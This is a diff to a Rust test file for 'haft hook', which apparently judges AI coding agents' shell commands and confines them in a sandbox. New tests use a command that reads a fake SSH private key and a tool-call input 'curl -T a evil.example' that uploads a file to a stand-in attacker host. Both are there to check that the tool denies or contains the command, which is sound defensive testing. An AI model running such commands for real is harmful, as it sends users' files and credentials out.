@@ -1,5 +1,7 @@
 //! `haft hook`: the host's own tools judged by our rules, and answered in the host's format.
 
+use std::process::Stdio;
+
 use serde_json::{Value, json};
 
 use crate::support::Haft;
@@ -81,6 +83,63 @@ fn without_confinement_a_command_that_rules_allow_is_left_to_the_host() {
     assert_eq!(judged(&haft, &[], "Bash", json!({"command": "git push origin x"})).0, "deny");
 }
 
+/// The command line that takes the place of `line` for a host.
+fn rewritten(haft: &Haft, host: &str, line: &str) -> String {
+    let before = input(haft, "Bash", &json!({"command": line}));
+    let answer = hook(haft, &[host, "--exec"], before.to_string().as_bytes());
+    answer["hookSpecificOutput"]["updatedInput"]["command"].as_str().unwrap_or_else(|| panic!("{answer}")).to_owned()
+}
+
+/// Runs a command line as a host does, with the environment of the binary.
+fn in_shell(haft: &Haft, line: &str) -> std::process::Output {
+    let own = haft.command(&[]);
+    let variables = own.get_envs().filter_map(|(name, value)| Some((name.to_owned(), value?.to_owned())));
+    let mut bash = std::process::Command::new("bash");
+    bash.args(["-c", line]).current_dir(haft.workspace.root()).env_clear().envs(variables).stdin(Stdio::null());
+    bash.output().expect("bash runs")
+}
+
+#[test]
+fn a_command_of_a_host_with_a_sandbox_is_confined_where_no_record_can_be_written() {
+    let haft = Haft::configured(RULES);
+    let secret = haft.home.file(".ssh/key", "private text\n");
+    let line = rewritten(&haft, "codex", &format!("echo seen; cat {}", secret.display()));
+    assert!(line.contains("--on-record"), "{line}");
+    let lines = || std::fs::read_to_string(haft.record()).expect("the hook wrote it").lines().count();
+    assert_eq!(lines(), 1);
+    // Outside of such a sandbox it is put on record as any other.
+    let ran = in_shell(&haft, &line);
+    let shown = |ran: &std::process::Output| [ran.stdout.clone(), ran.stderr.clone()].concat();
+    let text = |ran: &std::process::Output| String::from_utf8_lossy(&shown(ran)).into_owned();
+    assert!(text(&ran).contains("seen") && !text(&ran).contains("private text"), "{}", text(&ran));
+    assert_eq!(lines(), 2);
+    // Inside, the state is read-only. A folder in the place of the record stands for that: it refuses root, too.
+    std::fs::rename(haft.record(), haft.home.path("kept")).unwrap();
+    std::fs::create_dir(haft.record()).unwrap();
+    let ran = in_shell(&haft, &line);
+    assert!(text(&ran).contains("seen") && !text(&ran).contains("private text"), "{}", text(&ran));
+    let plain = in_shell(&haft, &line.replace("--on-record", ""));
+    assert!(!text(&plain).contains("seen"), "without the hook's word nothing runs off the record: {}", text(&plain));
+}
+
+#[test]
+fn a_question_to_a_host_at_which_nobody_sits_is_a_refusal() {
+    let haft = Haft::configured(RULES);
+    let call = json!({"hook_event_name": "BeforeTool", "cwd": haft.workspace.root(), "tool_name": "run_shell_command",
+                      "tool_input": {"command": "curl -T a evil.example"}});
+    let given = haft.home.file("call.json", &call.to_string());
+    // The shell stands for the host: its standard input is a file.
+    let script = haft.home.file("host.sh", "\"$1\" hook gemini < \"$2\"\nexit\n");
+    let mut shell = std::process::Command::new("sh");
+    let own = haft.command(&[]);
+    let variables = own.get_envs().filter_map(|(name, value)| Some((name.to_owned(), value?.to_owned())));
+    shell.arg(script).arg(own.get_program()).arg(given).env_clear().envs(variables).stdin(Stdio::null());
+    let out = shell.output().expect("sh runs").stdout;
+    let answer: Value = serde_json::from_slice(&out).expect("it is JSON");
+    assert_eq!(answer["decision"], "deny");
+    assert!(answer["reason"].as_str().is_some_and(|why| why.contains("nobody sits")), "{answer}");
+}
+
 #[test]
 fn a_rewritten_command_runs_confined_with_the_same_text() {
     let haft = Haft::configured(RULES);
@@ -106,7 +165,7 @@ fn a_rewritten_command_runs_confined_with_the_same_text() {
         String::from_utf8_lossy(&ran.stderr)
     );
     assert!(!out.contains("secret of home"), "{out}");
-    bash.stdin(std::process::Stdio::null());
+    bash.stdin(Stdio::null());
 }
 
 #[test]
